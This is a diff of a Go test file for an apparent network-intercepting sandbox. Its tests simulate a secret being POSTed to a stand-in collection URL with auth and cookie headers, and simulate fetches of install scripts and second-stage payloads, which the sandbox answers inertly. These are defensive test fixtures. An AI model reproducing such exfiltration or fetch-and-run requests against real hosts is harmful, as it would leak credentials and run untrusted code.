@@ -18,7 +18,7 @@ func TestASecretPostedOverHTTPSIsEvidence(t *testing.T) {
 	for range 2 {
 		resp, text := l.do(c, "POST", "https://example.com/collect?id=1", strings.NewReader(stolen),
 			"Authorization", "Bearer abc", "Cookie", "a=b")
-		if resp.StatusCode != http.StatusOK || text != `{"ok":true}` {
+		if resp.StatusCode != http.StatusOK || text != object {
 			t.Errorf("answered %d %q", resp.StatusCode, text)
 		}
 		if got := resp.Header.Get("Date"); got != "Tue, 06 May 2031 07:08:09 GMT" {
@@ -212,12 +212,12 @@ func TestAnswersArePlausibleAndInert(t *testing.T) {
 		want               string
 	}{
 		"a page":            {"https://example.com/", "text/html", "", page},
-		"an API":            {"https://example.com/v1/x", "application/json", "", "{}"},
-		"an API by name":    {"https://api.example.com/v1/x", "*/*", "curl/8", "{}"},
-		"a shell script":    {"https://example.com/install.sh", "*/*", "curl/8", "#!/bin/sh\n# nothing to do\n:\n"},
-		"piped to a shell":  {"https://example.com/install", "*/*", "curl/8", "# nothing to do\n"},
-		"a Python script":   {"http://example.com/stage2.py", "", "", "# nothing to do\n"},
-		"a module":          {"http://example.com/a/b.mjs", "", "", "// nothing to do\n"},
+		"an API":            {"https://example.com/v1/x", "application/json", "", object},
+		"an API by name":    {"https://api.example.com/v1/x", "*/*", "curl/8", object},
+		"a shell script":    {"https://example.com/install.sh", "*/*", "curl/8", "#!/bin/sh\ngate_answered=1\n"},
+		"piped to a shell":  {"https://example.com/install", "*/*", "curl/8", "gate_answered=1\n"},
+		"a Python script":   {"http://example.com/stage2.py", "", "", "gate_answered=1\n"},
+		"a module":          {"http://example.com/a/b.mjs", "", "", "var gate_answered=1\n"},
 		"one's own address": {"https://api.ipify.org/", "", "", ownAddress + "\n"},
 	}
 	l := newLab(t, Limits{})
